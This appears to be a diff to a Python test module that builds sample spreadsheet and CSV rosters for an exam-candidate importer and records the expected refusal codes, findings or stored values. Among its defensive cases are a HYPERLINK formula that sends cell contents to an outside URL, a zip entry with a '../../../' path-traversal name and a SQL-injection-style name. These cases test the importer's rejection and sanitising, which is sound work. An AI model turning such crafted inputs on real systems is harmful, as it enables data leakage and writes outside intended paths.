@@ -4,6 +4,7 @@ A result is the code with which the file is refused, or the findings (row, colum
 """
 
 import io
+import re
 import struct
 import zipfile
 import zlib
@@ -18,22 +19,28 @@ from tests.planning.rosters import TITLES, csv_of, line, xlsx
 
 Result = str | list[tuple[int, str, str]]
 FILES: dict[str, tuple[Callable[[], bytes], Result]] = {}
+READ: dict[str, dict[str, str]] = {}
 FINE: Result = []
+# What `line(1)` holds.
+GOOD = {"candidate_number": "26S00001", "name": "赵一鸣", "phone": "+8613800000001"}
 # A cell has no time zone.
 AFTERNOON = datetime(2026, 11, 30, 14, 30)  # noqa: DTZ001
+AT_HALF_PAST_TWO = {"slot_starts_at": "2026-11-30 14:30"}
 SHEET = "xl/worksheets/sheet1.xml"
 
 
-def case(result: Result) -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
+def case(result: Result, /, **reads: str) -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
     def keep(make: Callable[[], bytes]) -> Callable[[], bytes]:
-        FILES[make.__name__] = make, result
+        plain(make.__name__, make, result, **reads)
         return make
 
     return keep
 
 
-def plain(name: str, make: Callable[[], bytes], result: Result) -> None:
-    FILES[name] = make, result
+def plain(called: str, make: Callable[[], bytes], result: Result, /, **reads: str) -> None:
+    """`reads`: what the roster holds of the last row, once it is written."""
+    FILES[called] = make, result
+    READ[called] = reads
 
 
 def book(fill: Callable[[Any, Any], None], **options: Any) -> bytes:
@@ -87,8 +94,6 @@ def with_time(**options: Any) -> bytes:
 
     return book(fill, **options)
 
-
-OUTSIDE: Result = [(2, "slot_starts_at", "slot_outside")]
 
 # What is no table at all, whatever its name says
 plain("nothing", lambda: b"", "file_empty")
@@ -231,16 +236,21 @@ plain("a_heading_twice", lambda: xlsx([[*line(1), "x"]], [*TITLES, "姓名"]), "
 plain("two_names_of_one_heading", lambda: xlsx([[*line(1), "x"]], [*TITLES, "手机号码"]), "heading_twice")
 plain("headings_only", lambda: xlsx([]), "no_rows")
 plain("empty_rows_only", lambda: xlsx([["", " ", "　"]]), "no_rows")
-plain("headings_full_width_and_starred", lambda: xlsx([line(1)], [f" {one} ＊" for one in TITLES]), FINE)
-plain("a_title_above", lambda: xlsx([TITLES, line(1)], ["2026 年复试名单"]), FINE)
+plain(
+    "headings_full_width_and_starred", lambda: xlsx([line(1)], [f" {one} ＊" for one in TITLES]), FINE, **GOOD
+)
+plain("a_title_above", lambda: xlsx([TITLES, line(1)], ["2026 年复试名单"]), FINE, **GOOD)
 plain(
     "columns_in_another_order",
     lambda: xlsx([["某人", "13800000001", "26S1"]], ["姓名", "手机", "准考证号"]),
     FINE,
+    name="某人",
+    phone="+8613800000001",
+    candidate_number="26S1",
 )
 
 
-@case(FINE)
+@case(FINE, **GOOD)
 def the_first_sheet_is_hidden() -> bytes:
     file = io.BytesIO()
     work = xlsxwriter.Workbook(file)
@@ -260,12 +270,83 @@ plain(
     lambda: book(lambda work, sheet: sheet.write_formula(1, 1, '="何"&"某"', None, "何某")),
     [(2, "name", "cell_formula")],
 )
+FORMULA: Result = [(2, "name", "cell_formula")]
+
+
+def with_formula(change: Callable[[dict[str, bytes]], Any]) -> bytes:
+    """A formula for a name, in a workbook as other programs write it."""
+    return repacked(change, book(lambda work, sheet: sheet.write_formula(1, 1, '="何"&"某"', None, "何某")))
+
+
+def prefixed(parts: dict[str, bytes]) -> None:
+    """As Microsoft's own library for .NET names the elements."""
+    sheet = re.sub(rb"<(/?)(?=[a-zA-Z])", rb"<\1x:", parts[SHEET])
+    parts[SHEET] = sheet.replace(b' xmlns="', b' xmlns:x="', 1)
+
+
+def target(old: bytes, new: bytes) -> Callable[[dict[str, bytes]], None]:
+    """The workbook looks for its sheet under another name."""
+
+    def change(parts: dict[str, bytes]) -> None:
+        relations = "xl/_rels/workbook.xml.rels"
+        assert old in parts[relations]
+        parts[relations] = parts[relations].replace(old, new)
+
+    return change
+
+
+def shouted(parts: dict[str, bytes]) -> None:
+    target(b"sheet1.xml", b"SHEET1.XML")(parts)
+    parts["xl/worksheets/SHEET1.XML"] = parts.pop(SHEET)
+
+
+def old_formula() -> bytes:
+    work = xlwt.Workbook(encoding="utf-8")
+    sheet = work.add_sheet("名单")
+    for row, cells in enumerate([TITLES, line(1)]):
+        for place, cell in enumerate(cells):
+            sheet.write(row, place, xlwt.Formula('"a"&"b"') if (row, place) == (1, 1) else cell)
+    file = io.BytesIO()
+    work.save(file)
+    return file.getvalue()
+
+
+plain("a_formula_with_a_prefix", lambda: with_formula(prefixed), FORMULA)
+plain(
+    "a_formula_whose_cell_has_no_place",
+    lambda: with_formula(
+        lambda parts: parts.update({SHEET: re.sub(rb' r="[A-Z]+[0-9]+"', b"", parts[SHEET])})
+    ),
+    FORMULA,
+)
+plain("a_formula_in_a_part_of_capitals", lambda: with_formula(shouted), FORMULA)
+plain(
+    "a_formula_behind_another_case",
+    lambda: with_formula(target(b"worksheets/sheet1.xml", b"worksheets/Sheet1.xml")),
+    FORMULA,
+)
+plain(
+    "a_formula_behind_a_way_round",
+    lambda: with_formula(target(b"worksheets/sheet1.xml", b"worksheets/../worksheets/sheet1.xml")),
+    "file_broken",
+)
+plain("a_formula_in_an_old_xls", old_formula, FORMULA)
+plain(
+    "a_sheet_twice_by_capitals",
+    lambda: repacked(lambda parts: parts.update({"xl/worksheets/SHEET1.xml": parts[SHEET]})),
+    "file_broken",
+)
+plain(
+    "a_sheet_of_two_bytes_a_letter",
+    lambda: repacked(lambda parts: parts.update({SHEET: parts[SHEET].decode().encode("utf-16")})),
+    "file_broken",
+)
 plain(
     "a_formula_that_calls_out",
     lambda: book(lambda work, sheet: sheet.write_formula(1, 12, '=HYPERLINK("http://x/"&A2)', None, "x")),
     [(2, "remark", "cell_formula")],
 )
-plain("a_formula_as_text", lambda: xlsx([line(1, remark="=HYPERLINK(1)")]), FINE)
+plain("a_formula_as_text", lambda: xlsx([line(1, remark="=HYPERLINK(1)")]), FINE, remark="=HYPERLINK(1)")
 plain(
     "an_error_value",
     lambda: book(lambda work, sheet: sheet.write_string(1, 1, "#REF!")),
@@ -282,7 +363,7 @@ plain(
     lambda: xlsx([line(1, candidate_number=26000123)]),
     [(2, "candidate_number", "number_for_text")],
 )
-plain("a_mobile_as_a_number", lambda: xlsx([line(1, phone=13812345678)]), FINE)
+plain("a_mobile_as_a_number", lambda: xlsx([line(1, phone=13812345678)]), FINE, phone="+8613812345678")
 plain(
     "a_foreign_phone_as_a_number",
     lambda: xlsx([line(1, phone=447700900123)]),
@@ -298,22 +379,37 @@ plain(
     lambda: csv_of([line(1, candidate_number="2.6E+11")]),
     [(2, "candidate_number", "number_form")],
 )
-plain("leading_zeros_kept", lambda: xlsx([line(1, candidate_number="000123")]), FINE)
+plain(
+    "leading_zeros_kept",
+    lambda: xlsx([line(1, candidate_number="000123")]),
+    FINE,
+    candidate_number="000123",
+)
 plain(
     "full_width_digits",
     lambda: xlsx([line(1, candidate_number="２６Ｓ０００１", phone="１３８１２３４５６７８")]),
     FINE,
+    candidate_number="26S0001",
+    phone="+8613812345678",
 )
 plain(
     "full_width_twin",
     lambda: xlsx([line(1), line(2, candidate_number="２６Ｓ００００１ ")]),
     [(3, "candidate_number", "twice_in_file")],
 )
-plain("trailing_spaces", lambda: xlsx([line(1, name=" 何嘉怡　 ", room="第二考场 ")]), FINE)
+plain(
+    "trailing_spaces",
+    lambda: xlsx([line(1, name=" 何嘉怡　 ", room="第二考场 ")]),
+    FINE,
+    name="何嘉怡",
+    room="第二考场",
+)
 plain(
     "invisible_characters",
     lambda: xlsx([line(1, candidate_number="\u200b26S\u200d00001\ufeff", name="何\u202e嘉怡")]),
     FINE,
+    candidate_number="26S00001",
+    name="何嘉怡",
 )
 plain(
     "an_invisible_twin",
@@ -330,8 +426,14 @@ plain(
     [(2, "candidate_number", "number_form")],
 )
 plain("a_name_of_thousands", lambda: xlsx([line(1, name="何" * 5000)]), [(2, "name", "too_long")])
-plain("quotes_and_semicolons", lambda: xlsx([line(1, name="O'Brien; DROP TABLE", remark='"\\')]), FINE)
-plain("an_emoji_remark", lambda: xlsx([line(1, remark="😀")]), FINE)
+plain(
+    "quotes_and_semicolons",
+    lambda: xlsx([line(1, name="O'Brien; DROP TABLE", remark='"\\')]),
+    FINE,
+    name="O'Brien; DROP TABLE",
+    remark='"\\',
+)
+plain("an_emoji_remark", lambda: xlsx([line(1, remark="😀")]), FINE, remark="😀")
 plain(
     "a_date_for_a_number",
     lambda: book(
@@ -341,8 +443,13 @@ plain(
     ),
     [(2, "candidate_number", "cell_date")],
 )
-plain("dates_of_1900", lambda: with_time(), OUTSIDE)
-plain("dates_of_1904", lambda: with_time(date_1904=True), OUTSIDE)
+plain("dates_of_1900", lambda: with_time(), FINE, **AT_HALF_PAST_TWO)
+plain("dates_of_1904", lambda: with_time(date_1904=True), FINE, **AT_HALF_PAST_TWO)
+plain(
+    "a_date_four_years_off",
+    lambda: xlsx([line(1, slot_starts_at="2022-11-29 14:30")]),
+    [(2, "slot_starts_at", "slot_outside")],
+)
 plain(
     "a_time_as_a_bare_number",
     lambda: xlsx([line(1, slot_starts_at=46356.6)]),
@@ -366,33 +473,34 @@ plain(
 )
 
 # Old workbooks
-plain("an_old_xls", lambda: old_xls([line(1)]), FINE)
+plain("an_old_xls", lambda: old_xls([line(1)]), FINE, **GOOD)
 plain(
     "an_old_xls_of_1904",
     lambda: old_xls([line(1, slot_starts_at=AFTERNOON)], True),
-    OUTSIDE,
+    FINE,
+    **AT_HALF_PAST_TWO,
 )
 plain("an_old_xls_cut_short", lambda: old_xls([line(1)])[:1500], "file_kind_unknown")
-plain("an_xlsx_called_csv", lambda: xlsx([line(1)]), FINE)
+plain("an_xlsx_called_csv", lambda: xlsx([line(1)]), FINE, **GOOD)
 
 # Text files
-plain("csv_utf8", lambda: csv_of([line(1)]), FINE)
-plain("csv_with_bom", lambda: csv_of([line(1)], "utf-8-sig"), FINE)
-plain("csv_gbk", lambda: csv_of([line(1)], "gbk"), FINE)
-plain("csv_gb18030_rare_name", lambda: csv_of([line(1, name="𠮷䶮")], "gb18030"), FINE)
-plain("csv_utf16", lambda: csv_of([line(1)], "utf-16"), FINE)
-plain("csv_tabs", lambda: csv_of([line(1)], delimiter="\t"), FINE)
-plain("csv_semicolons", lambda: csv_of([line(1)], delimiter=";"), FINE)
+plain("csv_utf8", lambda: csv_of([line(1)]), FINE, **GOOD)
+plain("csv_with_bom", lambda: csv_of([line(1)], "utf-8-sig"), FINE, **GOOD)
+plain("csv_gbk", lambda: csv_of([line(1)], "gbk"), FINE, **GOOD)
+plain("csv_gb18030_rare_name", lambda: csv_of([line(1, name="𠮷䶮")], "gb18030"), FINE, name="𠮷䶮")
+plain("csv_utf16", lambda: csv_of([line(1)], "utf-16"), FINE, **GOOD)
+plain("csv_tabs", lambda: csv_of([line(1)], delimiter="\t"), FINE, **GOOD)
+plain("csv_semicolons", lambda: csv_of([line(1)], delimiter=";"), FINE, **GOOD)
 plain("csv_of_no_encoding", lambda: csv_of([line(1)]) + b"\xff\xfe\xff", "text_encoding_unknown")
 plain("csv_with_nul", lambda: csv_of([line(1)]) + b"\0", "file_kind_unknown")
-plain("csv_with_a_formula", lambda: csv_of([line(1, remark="=1+1")]), FINE)
+plain("csv_with_a_formula", lambda: csv_of([line(1, remark="=1+1")]), FINE, remark="=1+1")
 plain(
     "csv_open_quote",
     lambda: csv_of([line(1)]) + b'"26S9,' + "某".encode() + b"\n",
     [(3, "candidate_number", "number_form"), (3, "name", "missing")],
 )
-plain("csv_line_break_in_a_cell", lambda: csv_of([line(1, remark="一\n二")]), FINE)
-plain("csv_of_old_mac", lambda: csv_of([line(1)]).replace(b"\r\n", b"\r"), FINE)
+plain("csv_line_break_in_a_cell", lambda: csv_of([line(1, remark="一\n二")]), FINE, remark="一 二")
+plain("csv_of_old_mac", lambda: csv_of([line(1)]).replace(b"\r\n", b"\r"), FINE, **GOOD)
 plain("csv_short_rows", lambda: "考生编号,姓名,手机号\n26S1,某\n26S2\n".encode(), [(3, "name", "missing")])
 
 
@@ -416,9 +524,11 @@ plain(
     "a_picture_of_50000_inside",
     lambda: repacked(lambda parts: parts.update({"xl/media/image1.png": picture(50_000)})),
     FINE,
+    **GOOD,
 )
 plain(
     "paths_inside_a_workbook",
     lambda: repacked(lambda parts: parts.update({"../../../tmp/x.xml": b"<x/>"})),
     FINE,
+    **GOOD,
 )
